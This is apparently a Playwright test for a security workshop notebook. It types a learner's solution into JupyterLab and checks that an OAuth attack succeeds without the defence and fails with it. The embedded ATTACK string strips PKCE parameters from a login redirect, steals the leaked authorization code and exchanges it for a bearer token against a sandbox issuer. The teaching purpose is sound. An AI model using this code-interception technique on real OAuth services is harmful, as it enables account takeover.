"""A newcomer's path in a real JupyterLab: the notebook of the exercises, with the keyboard, to the first own attack."""

from __future__ import annotations

import time
from pathlib import Path
from typing import TYPE_CHECKING

import nbformat
import pytest
from playwright.sync_api import expect

from lexoffice_nb.sandbox import process

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.browser.conftest import Jupyter, Notebook

EXERCISES = Path(__file__).parents[2] / "notebooks" / "11_attack_and_defend.ipynb"
SOLVED = "Solved: with the defence off the attack succeeds, with it on it fails."
# As somebody writes it who has read two hints: where no code leaks, it comes to no end.
ATTACK = """\
def attack(e):
    link = requests.get(e.app + "/login", allow_redirects=False).headers["Location"]
    page, query = link.split("?")
    left = [pair for pair in parse_qsl(query) if not pair[0].startswith("code_challenge")]
    e.victim.opens(page + "?" + urlencode(left))
    code = e.leaks()["callback_url"]["code"]
    form = {"grant_type": "authorization_code", "code": code, "client_id": e.client_id}
    tokens = requests.post(e.issuer + "/connect/token", data={**form, "redirect_uri": e.app + "/callback"}).json()
    bearer = {"Authorization": "Bearer " + tokens["access_token"]}
    requests.get(e.issuer + "/v1/profile", headers=bearer)


attack(e)"""
PATIENCE = 60_000  # ms: the first exercise starts the sandbox


@pytest.fixture
def _its_sandbox_ends(jupyter: Jupyter) -> Iterator[None]:
    yield
    process.stop(folder=jupyter.data / "lexoffice_nb" / "workshop")


@pytest.mark.usefixtures("_its_sandbox_ends")
@pytest.mark.timeout(240)
def test_from_the_first_cell_to_the_first_attack_of_ones_own_with_the_keyboard(notebook: Notebook) -> None:
    cells = nbformat.read(EXERCISES, as_version=4).cells
    at = {cell.id: number for number, cell in enumerate(cells)}
    worked_through = at["begin-02"] - 3
    assert cells[worked_through].source.endswith("workshop.check(1)")
    keyboard = notebook.page.keyboard

    began = time.monotonic()
    notebook.open(EXERCISES)
    notebook.cell(0).click()
    for _ in range(worked_through + 1):
        keyboard.press("Shift+Enter")
    expect(notebook.output(worked_through).get_by_text(SOLVED)).to_be_visible(timeout=PATIENCE)
    print(f"{time.monotonic() - began:.0f} s to the end of the first exercise")
    notebook.cell(worked_through).scroll_into_view_if_needed()
    notebook.screenshot("exercise-1-worked-through")

    for _ in range(worked_through + 1, at["attack-02"]):
        keyboard.press("Shift+Enter")
    expect(notebook.output(at["begin-02"]).get_by_text("PKCE taken away")).to_be_visible(timeout=PATIENCE)
    keyboard.press("Enter")
    keyboard.press("Control+a")
    keyboard.insert_text(ATTACK)
    for _ in range(at["attack-02"], at["defence-02"] + 1):
        keyboard.press("Shift+Enter")
    expect(notebook.output(at["defence-02"]).get_by_text(SOLVED)).to_be_visible(timeout=PATIENCE)
    expect(notebook.output(at["defence-02"]).get_by_text("Your attack ended here:")).to_be_visible()
    print(f"{time.monotonic() - began:.0f} s to the end of the second")
    notebook.cell(at["defence-02"]).scroll_into_view_if_needed()
    notebook.screenshot("exercise-2-solved")
    assert not notebook.page_errors
